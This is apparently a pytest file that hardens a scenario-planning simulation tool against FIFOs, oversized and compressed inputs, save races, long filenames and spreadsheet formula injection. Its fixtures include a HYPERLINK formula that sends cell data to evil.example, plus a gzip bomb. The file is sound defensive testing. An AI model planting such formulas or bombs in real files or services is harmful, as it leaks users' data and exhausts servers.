"""Issue 15 (one intranet server, many planners): the library folder is safe across processes, inputs are
bounded and confined, and exports carry no live formulas.

Broken scenario files that fit the fixture folder are in tests/fixtures/broken/ (many_problems_capped,
age_profile_link_outside); what needs a FIFO, a device, two processes or a kill is here.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import signal
import subprocess
import sys
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest

from sim import scenario
from sim.scenario import files
from sim.cli import EXIT_INVALID, EXIT_OK, main
from sim.scenario import (MAX_FILE_BYTES, MAX_NAME_BYTES, FileNameTooLong, InputFileError, ScenarioError,
                          dumps, load_scenario, loads, read_regular_file, save_scenario)

ROOT = Path(__file__).resolve().parents[1]
STANDARD = ROOT / "scenarios" / "standard_dx.toml"
MINIMAL = 'schema_version = 1\n[metadata]\nname = "最小"\n'


def _cli(*args, timeout=20):
    """python -m sim ... --lang en in a subprocess that must finish within `timeout` seconds (a FIFO must not block)."""
    args = (*args, "--lang", "en") if "--lang" not in args else args
    return subprocess.run([sys.executable, "-m", "sim", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, "PYTHONPATH": str(ROOT)})


# --- 5: only regular files are read, and never more than the limit + 1 byte ------------------------

@pytest.fixture
def fifo(tmp_path):
    path = tmp_path / "pipe.toml"
    os.mkfifo(path)
    return path


@pytest.mark.parametrize("command", [["validate"], ["run"]])
def test_a_fifo_as_scenario_is_refused_without_blocking(fifo, command):
    proc = _cli(*command, str(fifo))
    assert proc.returncode == EXIT_INVALID, proc
    text = proc.stdout + proc.stderr
    assert str(fifo) in text and "not a regular file (a named pipe (FIFO))" in text, text


def test_a_device_as_scenario_is_refused_without_reading_it():
    proc = _cli("validate", "/dev/zero")
    assert proc.returncode == EXIT_INVALID, proc
    assert "FAIL /dev/zero" in proc.stdout and "not a regular file (a device)" in proc.stdout, proc.stdout


def test_a_fifo_in_the_library_folder_does_not_block_doctor(tmp_path):
    (tmp_path / "good.toml").write_text(MINIMAL, encoding="utf-8")
    os.mkfifo(tmp_path / "stuck.toml")
    proc = _cli("doctor", "--library", str(tmp_path), timeout=60)  # doctor also runs the built-in scenarios
    assert proc.returncode == EXIT_INVALID, proc
    assert f"{tmp_path / 'stuck.toml'}: not a regular file (a named pipe (FIFO))" in proc.stdout, proc.stdout
    assert "good.toml" not in proc.stdout


def test_a_fifo_as_age_profile_csv_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "ages.csv")
    path = tmp_path / "s.toml"
    path.write_text(MINIMAL + '[municipality]\nage_profile_csv = "ages.csv"\n', encoding="utf-8")
    proc = _cli("validate", str(path))
    assert proc.returncode == EXIT_INVALID, proc
    assert "municipality.age_profile_csv (ages.csv): not a regular file (a named pipe (FIFO))" in proc.stdout


def test_a_fifo_in_the_library_folder_does_not_block_a_new_session(app_test, tmp_path, monkeypatch):
    monkeypatch.setenv("DXSIM_LIBRARY_DIR", str(tmp_path))
    (tmp_path / "mine.toml").write_text(MINIMAL, encoding="utf-8")
    os.mkfifo(tmp_path / "stuck.toml")
    # guard first in a subprocess: were the loader to block on the FIFO, the in-process session below
    # would leave a thread stuck that keeps the test run from ending
    assert _cli("validate", str(tmp_path / "stuck.toml")).returncode == EXIT_INVALID
    t0 = time.perf_counter()
    at = app_test().run()
    assert time.perf_counter() - t0 < 60
    assert not at.exception, [e.message for e in at.exception]
    assert "folder:mine" in at.session_state["scenario_library"]
    assert any("stuck.toml" in c.value for c in at.sidebar.code)


def test_a_munipality_file_that_is_a_fifo_is_refused_without_blocking(fifo, tmp_path):
    proc = _cli("batch", str(STANDARD), "--municipalities", str(fifo), "--out", str(tmp_path / "out"))
    assert proc.returncode == EXIT_INVALID, proc
    assert f"{fifo}: not a regular file (a named pipe (FIFO))" in proc.stderr, proc.stderr


def test_read_stops_one_byte_beyond_the_limit(monkeypatch):
    """/proc files report size 0 but have content: the read itself must stop at limit + 1 bytes."""
    read = []
    real = os.read

    def spy(fd, n):
        data = real(fd, n)
        read.append(len(data))
        return data

    monkeypatch.setattr(files.os, "read", spy)
    assert os.stat("/proc/self/status").st_size == 0
    with pytest.raises(InputFileError, match="larger than the limit of 10 bytes"):
        read_regular_file("/proc/self/status", 10)
    assert sum(read) == 11
    read.clear()
    assert read_regular_file(STANDARD, MAX_FILE_BYTES) == STANDARD.read_bytes()
    assert sum(read) == STANDARD.stat().st_size


# --- 5: age_profile_csv only beside a scenario file ---------------------------------------------------

def test_age_profile_csv_is_refused_for_uploaded_and_linked_scenarios(tmp_path, monkeypatch):
    """An uploaded or linked scenario has no folder: the name must not resolve against the server's CWD."""
    (tmp_path / "pyvenv.cfg").write_text("home = /secret/server/path\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    text = MINIMAL + '[municipality]\nage_profile_csv = "pyvenv.cfg"\n'
    with pytest.raises(ScenarioError) as info:
        loads(text, source="upload.toml")
    assert info.value.problems[0][0] == "municipality.age_profile_csv"
    assert "cannot refer to a CSV file" in info.value.problems[0][1]
    assert "secret" not in str(info.value)
    from ui import query
    _, sc, _, problems = query.parse({"d": query.encode(text)}, {})
    assert sc is None and problems[0][0] == "municipality.age_profile_csv"
    assert "secret" not in str(problems)
    # beside a scenario file it still works
    (tmp_path / "ages.csv").write_text("age,admin,technical,digital\n30,5,1,0\n", encoding="utf-8")
    (tmp_path / "s.toml").write_text(MINIMAL + '[municipality]\nage_profile_csv = "ages.csv"\n', encoding="utf-8")
    sc = load_scenario(tmp_path / "s.toml")
    assert sc.municipality.age_profile[0][12] == 5
    # the app keeps it inline, so its text loads without a folder
    assert loads(dumps(scenario.inline_files(sc))).municipality.age_profile == sc.municipality.age_profile


# --- 5: problem lists capped ---------------------------------------------------------------------------

def test_an_upload_with_110000_unknown_keys_gives_a_short_problem_list():
    import itertools
    chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"
    keys = itertools.islice(("z" + "".join(p) for p in itertools.product(chars, repeat=3)), 110_000)
    text = "schema_version = 1\n" + "".join(f"{k}=1\n" for k in keys) + '[metadata]\nname = "x"\n'
    t0 = time.perf_counter()
    with pytest.raises(ScenarioError) as info:
        loads(text.encode("utf-8"), source="big.toml")
    elapsed = time.perf_counter() - t0
    assert len(info.value.problems) == 101
    assert info.value.problems[-1] == ("", "… and 109,900 more problems")
    assert len(str(info.value)) < 50_000
    assert elapsed < 5, elapsed


def test_a_capped_list_wrapped_again_keeps_its_count():
    err = ScenarioError([("k", "bad")] * 250)
    again = ScenarioError(err.problems)
    assert again.problems == err.problems and again.problems[-1] == ("", "… and 150 more problems")


# --- 5: compressed uploads bounded by their unpacked size ---------------------------------------------

def test_a_gzip_bomb_is_refused_without_unpacking_it_all():
    from sim import municipal
    bomb = gzip.compress(b"0" * (200 * 2**20), compresslevel=9)  # 200 MB of zeros in about 200 kB
    assert len(bomb) < 400_000
    tracemalloc.start()
    try:
        with pytest.raises(municipal.DataImportError, match="larger than 8 MB"):
            municipal.read_ipss(bomb, name="bomb.csv.gz")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 40 * 2**20, f"peak {peak / 2**20:.0f} MB"


# --- 5: --set ----------------------------------------------------------------------------------------

def test_set_with_a_year_twice_is_an_error_naming_the_key(capsys):
    code = main(["run", str(STANDARD), "--set", "talent.external_fulltime=2025:1,2025:2", "--lang", "en"])
    err = capsys.readouterr().err
    assert code == EXIT_INVALID
    assert "--set talent.external_fulltime: year 2025 is given twice" in err


def test_set_with_a_key_twice_is_an_error_naming_the_key(capsys):
    code = main(["run", str(STANDARD), "--lang", "en", "--set", "workforce.exit_rate_multiplier=1.2",
                 "--set", "workforce.exit_rate_multiplier=1.5"])
    assert code == EXIT_INVALID
    assert "--set workforce.exit_rate_multiplier: given twice" in capsys.readouterr().err


def test_batch_refuses_a_municipality_set_it_would_ignore(capsys, tmp_path):
    code = main(["batch", str(STANDARD), "--set", "municipality.population=5000", "--out", str(tmp_path / "b"),
                 "--lang", "en"])
    err = capsys.readouterr().err
    assert code == EXIT_INVALID
    assert "--set municipality.population: batch replaces the scenario's [municipality] table" in err
    assert not (tmp_path / "b").exists()


# --- 4: the library folder across processes -----------------------------------------------------------

def test_two_saves_of_the_same_new_name_never_both_succeed(tmp_path):
    """Ten rounds of two threads saving the same new name at the same moment: one file, one FileExistsError."""
    for round_no in range(10):
        path = tmp_path / f"plan{round_no}.toml"
        barrier = threading.Barrier(2)
        outcome = {}

        def save(who):
            sc = loads(f'schema_version = 1\n[metadata]\nname = "{who}"\n')
            barrier.wait()
            try:
                save_scenario(sc, path)
                outcome[who] = "saved"
            except FileExistsError:
                outcome[who] = "exists"

        threads = [threading.Thread(target=save, args=(w,)) for w in ("A", "B")]
        for th in threads:
            th.start()
        for th in threads:
            th.join()
        assert sorted(outcome.values()) == ["exists", "saved"], outcome
        winner = next(w for w, o in outcome.items() if o == "saved")
        assert load_scenario(path).name == winner
    assert sorted(p.name for p in tmp_path.iterdir()) == [f"plan{i}.toml" for i in range(10)]


def test_a_file_created_after_the_exists_check_is_not_replaced(tmp_path, monkeypatch):
    """The race of the probe: the other session's file appears between the check and the rename."""
    path = tmp_path / "plan.toml"
    path.write_text(MINIMAL, encoding="utf-8")
    monkeypatch.setattr(Path, "exists", lambda self: False)  # the check sees nothing yet
    with pytest.raises(FileExistsError):
        save_scenario(loads('schema_version = 1\n[metadata]\nname = "後から"\n'), path)
    assert path.read_text(encoding="utf-8") == MINIMAL
    monkeypatch.undo()
    assert [p.name for p in tmp_path.iterdir()] == ["plan.toml"]


def test_without_hard_links_a_new_file_is_still_created_exclusively(tmp_path, monkeypatch):
    """On a file system without hard links (os.link: EPERM), the name is created with O_EXCL."""
    import errno

    def no_links(src, dst):
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(files.os, "link", no_links)
    path = save_scenario(loads(MINIMAL), tmp_path / "plan.toml")
    assert load_scenario(path).name == "最小"
    monkeypatch.setattr(Path, "exists", lambda self: False)  # the check sees nothing: O_EXCL decides
    with pytest.raises(FileExistsError):
        save_scenario(loads('schema_version = 1\n[metadata]\nname = "後から"\n'), path)
    monkeypatch.undo()
    assert load_scenario(path).name == "最小"
    assert [p.name for p in tmp_path.iterdir()] == ["plan.toml"]


def test_a_save_killed_midway_leaves_a_temp_file_that_doctor_reports_and_the_next_save_removes(tmp_path, capsys):
    code = ("import time, sys\nfrom sim import scenario\nfrom sim.scenario import files\n"
            "files.os.fsync = lambda fd: time.sleep(60)\n"
            "scenario.save_scenario(scenario.loads(sys.argv[2]), sys.argv[1])\n")
    proc = subprocess.Popen([sys.executable, "-c", code, str(tmp_path / "plan.toml"), MINIMAL], cwd=ROOT,
                            env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        deadline = time.monotonic() + 20
        while not list(tmp_path.glob(".dxsim-*.tmp")) and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=20)
    orphans = list(tmp_path.glob(".dxsim-*.tmp"))
    assert len(orphans) == 1 and not (tmp_path / "plan.toml").exists()
    old = time.time() - scenario.STALE_TMP_SECONDS - 5
    os.utime(orphans[0], (old, old))
    fresh = tmp_path / ".dxsim-another-save-in-progress.tmp"
    fresh.write_bytes(b"")
    assert main(["doctor", "--library", str(tmp_path), "--lang", "en"]) == EXIT_INVALID
    out = capsys.readouterr().out
    assert f"{orphans[0]}: temporary file of an interrupted save" in out
    assert fresh.name not in out  # a save in progress is not an orphan
    save_scenario(loads(MINIMAL), tmp_path / "other.toml")
    assert not orphans[0].exists() and fresh.exists()
    assert main(["doctor", "--library", str(tmp_path), "--lang", "en"]) == EXIT_OK


def test_file_names_are_limited_in_bytes(tmp_path):
    name = "計" * 79  # 237 bytes in UTF-8: over the limit
    with pytest.raises(FileNameTooLong) as info:
        save_scenario(loads(MINIMAL), tmp_path / f"{name}.toml")
    assert f"the limit is {MAX_NAME_BYTES} bytes" in str(info.value)
    assert str(tmp_path) not in str(info.value)
    from ui.persistence import MAX_STEM_BYTES, name_too_long, sanitize_filename
    assert name_too_long(name) and not name_too_long("計" * 60)
    for raw in (name, "𠮷" * 80, "a" * 500):
        stem = sanitize_filename(raw)
        assert len(stem.encode("utf-8")) <= MAX_STEM_BYTES
        save_scenario(loads(MINIMAL), tmp_path / f"{stem}.toml")  # and the save (with its temp file) works


def _name_input(at):
    return next(w for w in at.text_input if w.key.startswith("persistence_name@"))


def test_the_app_refuses_a_too_long_name_with_a_message(app_test, tmp_path, monkeypatch):
    from ui.i18n import t
    from ui.persistence import MAX_STEM_BYTES
    monkeypatch.setenv("DXSIM_LIBRARY_DIR", str(tmp_path))
    at = app_test().run()
    _name_input(at).input("計" * 79).run()
    at.button(key="persistence_save").click().run()
    assert not at.exception, [e.message for e in at.exception]
    assert list(tmp_path.iterdir()) == []
    shown = [e.value for e in at.sidebar.error]
    assert t("persistence.name_too_long", "ja", limit=MAX_STEM_BYTES, kanji=MAX_STEM_BYTES // 3) in shown
    assert not any(str(tmp_path) in s for s in shown)


def test_the_app_asks_before_replacing_a_file_another_session_just_created(app_test, tmp_path, monkeypatch):
    """The other session saves between this one's exists-check and its write: a confirmation, not a
    silent replacement."""
    monkeypatch.setenv("DXSIM_LIBRARY_DIR", str(tmp_path))
    at = app_test().run()
    _name_input(at).input("同時の案").run()
    path = tmp_path / "同時の案.toml"
    real_exists = Path.exists
    other = loads('schema_version = 1\n[metadata]\nname = "別の人"\n')

    def exists_then_other_session_saves(self):
        found = real_exists(self)
        if self == path and not found:
            path.write_text(dumps(other), encoding="utf-8")  # the other session's save lands now
        return found

    monkeypatch.setattr(Path, "exists", exists_then_other_session_saves)
    at.button(key="persistence_save").click().run()
    monkeypatch.setattr(Path, "exists", real_exists)
    assert not at.exception, [e.message for e in at.exception]
    assert load_scenario(path).name == "別の人"  # not replaced
    assert any("同時の案.toml" in w.value.replace("\\", "") for w in at.sidebar.warning)
    at.button(key="persistence_overwrite").click().run()  # the existing two-step confirm
    assert load_scenario(path).name == "同時の案"


# --- 5: links never longer than the server accepts -------------------------------------------------------

def _big_scenario_text() -> str:
    import random
    rng = random.Random(1)
    noise = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(120_000))
    sc = load_scenario(STANDARD)
    import dataclasses
    return dumps(dataclasses.replace(sc, description=noise))


def test_a_scenario_too_large_for_a_link_is_offered_as_a_file(app_test):
    from ui import query
    from ui.i18n import t
    text = _big_scenario_text()
    assert len(text.encode()) < MAX_FILE_BYTES and not query.fits_in_link({"d": query.encode(text)})
    at = app_test().run()
    at.session_state["scenario_text"] = text
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    url = dict(at.query_params)
    assert "d" not in url and "s" not in url  # no broken link, and no link to a different scenario
    assert sum(len(k) + len(v) for k, v in url.items()) < 64_000
    assert t("query.too_long", "ja") in [i.value for i in at.sidebar.info]
    # a scenario that fits is written as before
    at.session_state["scenario_text"] = dumps(load_scenario(STANDARD).with_changes(
        {"workforce.exit_rate_multiplier": 1.3}))
    at.run()
    assert query.fits_in_link(dict(at.query_params)) and at.query_params["d"]
    assert t("query.too_long", "ja") not in [i.value for i in at.sidebar.info]


# --- 6: no formula injection ---------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "=1+1"]


def _hostile_scenario():
    sc = load_scenario(STANDARD)
    import dataclasses
    levers = tuple(dataclasses.replace(lev, name=HOSTILE[i % len(HOSTILE)]) for i, lev in enumerate(sc.levers))
    assert len(levers) >= len(HOSTILE)
    return dataclasses.replace(sc, name="=2+3", levers=levers)


def _xlsx_cells(raw: bytes):
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(n) and b"<f " not in z.read(n), n  # no formula element at all
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_xlsx_export_stores_user_text_as_strings(tmp_path):
    import pandas as pd

    from sim.engine import run
    from sim.export import excel_bytes
    from sim.uncertainty import monte_carlo
    sc = _hostile_scenario()
    cells = _xlsx_cells(run(sc).to_excel_bytes(scenario=sc))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # the text intact, not prefixed: lever names head the columns of the levers sheet (with their unit)
    assert all(any(str(c.value).startswith(h) for c in cells) for h in HOSTILE)
    assert "=2+3" in {c.value for c in cells}  # the scenario's name on the 前提条件 sheet
    cells = _xlsx_cells(excel_bytes({"t": pd.DataFrame({"=HYPERLINK(1)": HOSTILE})}))  # headers too
    assert [c.value for c in cells] == ["=HYPERLINK(1)", *HOSTILE] and {c.data_type for c in cells} == {"s"}
    monte_carlo(sc, 3).write(tmp_path, "xlsx")
    assert not [c for c in _xlsx_cells((tmp_path / "results.xlsx").read_bytes()) if c.data_type == "f"]


def test_csv_export_prefixes_formula_text_and_reads_back_intact(tmp_path, capsys):
    from sim.engine import run
    sc = _hostile_scenario()
    header = next(csv.reader(io.StringIO(run(sc).to_csv_bytes("levers").decode("utf-8-sig"))))
    levers = header[1:]  # one column per lever, headed by its name (and unit)
    assert len(levers) == len(sc.levers) and all(h.startswith("'") for h in levers)
    assert all(any(h[1:].startswith(x) for h in levers) for x in HOSTILE)  # the text intact after the apostrophe
    # the CLI: run --out csv / xlsx and compare --out (scenario names become column headers)
    path = tmp_path / "hostile.toml"
    save_scenario(sc, path)
    assert main(["run", str(path), "--out", str(tmp_path / "csv")]) == EXIT_OK
    text = (tmp_path / "csv" / "levers.csv").read_text(encoding="utf-8-sig")
    assert not any(line.startswith(("=", "+", "-", "@")) or ",=" in line or ",+" in line or ",@" in line
                   for line in text.splitlines())
    assert main(["run", str(path), "--out", str(tmp_path / "x"), "--format", "xlsx"]) == EXIT_OK
    assert not [c for c in _xlsx_cells((tmp_path / "x" / "results.xlsx").read_bytes()) if c.data_type == "f"]
    assert main(["compare", str(STANDARD), str(path), "--out", str(tmp_path / "cmp.csv")]) == EXIT_OK
    header = next(csv.reader(io.StringIO((tmp_path / "cmp.csv").read_text(encoding="utf-8-sig"))))
    assert "'=2+3" in header and "=2+3" not in header
    capsys.readouterr()


def test_numbers_are_never_prefixed():
    import pandas as pd
    from sim.export import csv_bytes
    out = csv_bytes(pd.DataFrame({"name": ["-x", "ok", "\tx", "\rx"], "value": [-1.5, 2, -3, 0]}))
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))
    assert rows[1:] == [["'-x", "-1.5"], ["ok", "2.0"], ["'\tx", "-3.0"], ["'\rx", "0.0"]]
